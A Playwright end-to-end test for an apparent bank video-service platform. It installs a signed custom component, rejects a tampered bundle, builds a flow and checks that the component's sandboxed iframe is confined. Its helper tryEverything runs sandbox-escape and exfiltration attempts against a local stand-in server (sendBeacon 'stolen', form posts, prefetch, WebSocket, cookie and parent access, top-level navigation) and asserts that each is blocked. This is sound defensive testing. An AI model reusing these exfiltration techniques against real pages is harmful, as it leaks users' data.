import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { keyId, newSigningKey, signBundle } from '@guichet/bundles';
import { bundleFromFolder } from '@guichet/bundles/folder';
import type { Frame, Page } from '@playwright/test';
import { CustomerPage, waitForRemotePicture } from '../../kit/customer-page.ts';
import { DesignerPage } from '../../kit/designer-page.ts';
import { bindEverywhere } from '../../kit/own-flow.ts';
import { StaffPage } from '../../kit/staff-page.ts';
import { StepPictures } from '../../kit/step-pictures.ts';
import { watchedServer, type WatchedServer } from '../../kit/watched-server.ts';
import { expect, test } from '../fixtures.ts';

test.describe.configure({ timeout: 600_000 });

const EXAMPLE = join(import.meta.dirname, '../../../examples/components/choice-by-picture');
const TYPE = 'own-choice-by-picture-v1';
let folder: string;
let outside: WatchedServer;

test.beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'guichet-components-'));
  outside = await watchedServer();
});
test.afterAll(async () => {
  await outside.close();
  await rm(folder, { recursive: true, force: true });
});

/** The example, signed by a bank's key, and the same with a letter changed. */
async function signedFiles() {
  const key = await newSigningKey();
  const signed = await signBundle(await bundleFromFolder(EXAMPLE), key.privateKey);
  const { payload, ...rest } = JSON.parse(signed) as { payload: string };
  const at = Math.floor(payload.length / 2);
  const changed = `${payload.slice(0, at)}${payload[at] === 'A' ? 'B' : 'A'}${payload.slice(at + 1)}`;
  const files = { key: join(folder, 'bank.pub'), bundle: join(folder, 'cards.guichet'), changed: join(folder, 'changed.guichet') };
  await writeFile(files.key, JSON.stringify(key.publicKey));
  await writeFile(files.bundle, signed);
  await writeFile(files.changed, JSON.stringify({ payload: changed, ...rest }));
  return { ...files, kid: await keyId(key.publicKey) };
}

/** The frame in which the component's page runs. */
async function componentFrame(page: Page): Promise<Frame> {
  const element = await page.waitForSelector('iframe[data-component]:not([data-waiting])');
  const frame = await element.contentFrame();
  if (frame === null) throw new Error('The frame has no page');
  return frame;
}

test('a bank’s own component is trusted, installed, dragged into a flow, run by both parties, and confined', async ({
  installation,
  sources,
}) => {
  const pictures = await StepPictures.into('designer-components');
  const files = await signedFiles();
  const [admin, designer] = await Promise.all([
    DesignerPage.signIn(installation, 'admin', 'en'),
    DesignerPage.signIn(installation, 'designer', 'zh-CN'),
  ]);
  const { page } = designer;
  const openComponents = async (of: Page, name: string) => {
    await of.getByRole('navigation').getByRole('link', { name }).click();
    await expect(of.getByRole('heading', { name, level: 1 })).toBeVisible();
  };

  await openComponents(page, '组件库');
  await pictures.take('empty', { zh: page });
  await page.locator('[data-bundle-file]').setInputFiles(files.bundle);
  await expect(page.getByRole('dialog')).toContainText('签名密钥未被信任');
  await page.getByRole('dialog').getByRole('button', { name: '关闭' }).click();
  await expect(page.locator('[data-trust]')).toHaveCount(0);

  await openComponents(admin.page, 'Components');
  await admin.page.locator('[data-trust]').click();
  await admin.page.getByLabel('Public key (.pub)').setInputFiles(files.key);
  await admin.page.getByLabel('Whose key it is').fill('Branch workshop');
  await admin.page.getByLabel('Why it is trusted').fill('They build our components.');
  await expect(admin.page.locator('[data-fingerprint]')).toHaveText(files.kid);
  await pictures.take('trust', { en: admin.page });
  await admin.page.getByRole('button', { name: 'Trust this key' }).click();
  await expect(admin.page.locator('[data-key]')).toContainText('Branch workshop');

  await page.locator('[data-bundle-file]').setInputFiles(files.changed);
  await expect(page.getByRole('dialog')).toContainText('签名不符');
  await pictures.take('refused', { zh: page });
  await page.getByRole('dialog').getByRole('button', { name: '关闭' }).click();
  await page.locator('[data-bundle-file]').setInputFiles(files.bundle);
  await expect(page.getByRole('dialog')).toContainText('不访问网络');
  await page.getByLabel('安装原因').fill('网点需要选卡面');
  await pictures.take('install', { zh: page });
  await page.getByRole('dialog').getByRole('button', { name: '安装', exact: true }).click();
  await expect(page.locator('[data-bundle="choice-by-picture@1"]')).toContainText('未使用');

  // A flow with it is dragged together.
  await designer.openList();
  await page.locator('[data-new]').click();
  await page.getByLabel('流程名称').fill('选卡面');
  await page.getByLabel('标识', { exact: true }).fill('pick-a-card');
  await page.getByRole('button', { name: '打开画布' }).click();
  await expect(designer.canvas).toBeVisible();
  let last: string | null = null;
  for (const [type, id] of [
    ['consent', 'consent'],
    ['device-check', 'deviceCheck'],
    ['queue', 'queue'],
    ['connect', 'connect'],
    [TYPE, 'choiceByPicture'],
  ] as const) {
    await designer.drag(type, last === null ? designer.canvas : designer.step(last));
    await expect(designer.step(id)).toBeVisible();
    last = id;
  }
  for (const step of ['choiceByPicture', 'choiceByPicture', 'consent', 'deviceCheck']) {
    await page.getByRole('button', { name: '显示全部' }).click();
    await designer.drag('end', designer.step(step));
  }
  await designer.step('choiceByPicture').click();
  await pictures.take('dragged', { zh: page });
  await expect(page.locator('[data-problem]')).toHaveCount(0);
  await expect(page.getByText('所有路径均符合规则')).toBeVisible();

  // Its page, as the designer looks at it, tries whatever a page can.
  await page.getByRole('tab', { name: /预览|界面/ }).click();
  const tried = await (await componentFrame(page)).evaluate(tryEverything, outside.origin);
  expect(tried).toEqual({
    cookies: 'SecurityError',
    storage: 'SecurityError',
    parent: 'SecurityError',
    fetch: 'refused',
    own: 'refused',
    picture: 'refused',
    socket: 'refused',
    peers: 'undefined',
    innerFrame: 'refused',
    blankFrame: 'SecurityError',
    top: 'refused',
  });
  expect(outside.reached, 'nothing that it tried got out').toEqual([]);
  await pictures.take('preview', { zh: page });
  await (await componentFrame(page)).evaluate((to) => location.assign(`${to}/navigated?stolen`), outside.origin).catch(() => undefined);
  await expect(page.getByText('该组件的页面已停止').first()).toBeVisible();
  expect(outside.requests, 'it took nothing along by going elsewhere').toEqual([]);

  await designer.isSaved();
  await page.getByRole('button', { name: '提交复核' }).click();
  await expect(page.locator('[data-strip]').getByText('复核中')).toBeVisible();
  await admin.open(/选卡面/);
  await admin.page.getByRole('link', { name: 'Look at the changes' }).click();
  await admin.page.getByRole('button', { name: 'Approve and publish' }).click();
  await admin.page.locator('[data-reason]').fill('Every path is proved.');
  await admin.page
    .getByRole('button', { name: /^Approve/ })
    .last()
    .click();
  await expect(admin.page.locator('[data-strip]').getByText('Published')).toBeVisible();
  await openComponents(page, '组件库');
  await expect(page.locator('[data-bundle="choice-by-picture@1"]')).toContainText('选卡面');
  const remove = page.locator('[data-bundle="choice-by-picture@1"]').getByRole('button', { name: '移除' });
  await expect(remove).toHaveAttribute('aria-disabled', 'true');
  await pictures.take('installed', { zh: page, en: admin.page });
  await Promise.all([designer.close(), admin.close()]);

  await bindEverywhere(installation, 'pick-a-card');
  const fakes = ({ files: { videoPath, audioPath } }: typeof sources.customer) => ({ fakeVideoPath: videoPath, fakeAudioPath: audioPath });
  const { urls } = installation.running;
  const agent = await StaffPage.signIn({ consoleUrl: urls.console, login: installation.login('agent'), ...fakes(sources.agent) });
  await agent.goIdle();
  const customer = await CustomerPage.open({ url: urls.customer, ...fakes(sources.customer) });
  await customer.chooseService();
  await customer.queue();
  await agent.acceptOffer();
  await Promise.all([waitForRemotePicture(customer.page, 40_000), waitForRemotePicture(agent.page, 40_000)]);

  const [phone, desk] = [await componentFrame(customer.page), await componentFrame(agent.page)];
  await expect(desk.locator('#note')).toHaveText(/has not picked|等待客户选择/);
  const done = await phone.evaluate(`new Promise((resolve) => {
    const acts = [['confirm', null], ['choose', { picture: 'gold' }], ['choose', { picture: 'key1', more: true }]];
    const answers = [];
    const next = () => port.postMessage({ type: 'act', request: 900 + answers.length, action: acts[answers.length][0], input: acts[answers.length][1] });
    port.addEventListener('message', ({ data }) => {
      if (data.type !== 'acted' || data.request < 900) return;
      answers.push(data.done);
      if (answers.length === acts.length) resolve(answers);
      else next();
    });
    next();
  })`);
  expect(done, 'what its page sends without being asked for is not done').toEqual([false, false, false]);
  await phone.locator('[data-picture="key2"]').click();
  await expect(phone.locator('#note')).toHaveText(/You picked|您选了/);
  await expect(desk.locator('#note')).toHaveText(/The customer picked|客户选了/);
  await pictures.take('run', { phone: customer.page, console: agent.page });
  await desk.getByRole('button', { name: /Confirm the choice|确认选择/ }).click();
  await expect(customer.page.locator('iframe[data-component]')).toHaveCount(0);
  expect(outside.requests).toEqual([]);
  // Whoever comes next to this installation finds the agent free.
  await agent.endCall();
  await agent.wrapUp('The card was picked.');
  await Promise.all([customer.close(), agent.close()]);
});

/** Runs in the component's page. */
async function tryEverything(outside: string): Promise<Readonly<Record<string, string>>> {
  const thrown = (act: () => unknown): string => {
    try {
      return `reached: ${String(act())}`;
    } catch (error) {
      return (error as Error).name;
    }
  };
  const settled = (act: (done: (how: string) => void) => void): Promise<string> =>
    new Promise((resolve) => {
      setTimeout(() => resolve('refused'), 3_000);
      act(resolve);
    });
  const asked = (url: string) =>
    fetch(url, { mode: 'no-cors' }).then(
      () => 'reached',
      () => 'refused',
    );
  const picture = settled((done) => {
    const image = new Image();
    image.addEventListener('load', () => done('reached'));
    image.addEventListener('error', () => done('refused'));
    image.src = `${outside}/picture`;
  });
  const socket = settled((done) => {
    try {
      const line = new WebSocket(`${outside.replace('http', 'ws')}/socket`);
      line.addEventListener('open', () => done('reached'));
      line.addEventListener('error', () => done('refused'));
    } catch {
      done('refused');
    }
  });
  const innerFrame = new Promise<string>((resolve) => {
    setTimeout(() => resolve('nothing'), 2_000);
    addEventListener('message', ({ data }) => {
      if (typeof data === 'object' && data !== null && 'inner' in data) resolve(String((data as { inner: unknown }).inner));
    });
    const frame = document.createElement('iframe');
    try {
      frame.srcdoc = '<script>parent.postMessage({ inner: typeof RTCPeerConnection }, "*")</script>';
      document.body.append(frame);
    } catch {
      resolve('refused');
    }
  });
  navigator.sendBeacon(`${outside}/beacon`, 'stolen');
  const hint = document.createElement('link');
  hint.rel = 'prefetch';
  hint.href = `${outside}/prefetch`;
  document.head.append(hint);
  const form = document.createElement('form');
  form.action = `${outside}/form`;
  document.body.append(form);
  form.submit();
  return {
    cookies: thrown(() => document.cookie),
    storage: thrown(() => localStorage.length),
    parent: thrown(() => parent.document.title),
    fetch: await asked(`${outside}/fetch`),
    own: await asked('/v1/entry'),
    picture: await picture,
    socket: await socket,
    peers: typeof (globalThis as { RTCPeerConnection?: unknown }).RTCPeerConnection,
    innerFrame: await innerFrame,
    blankFrame: thrown(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return Reflect.get(frame.contentWindow ?? {}, 'RTCPeerConnection') as unknown;
    }),
    top: thrown(() => {
      if (top !== null) top.location.href = `${outside}/top`;
    }).replace('SecurityError', 'refused'),
  };
}
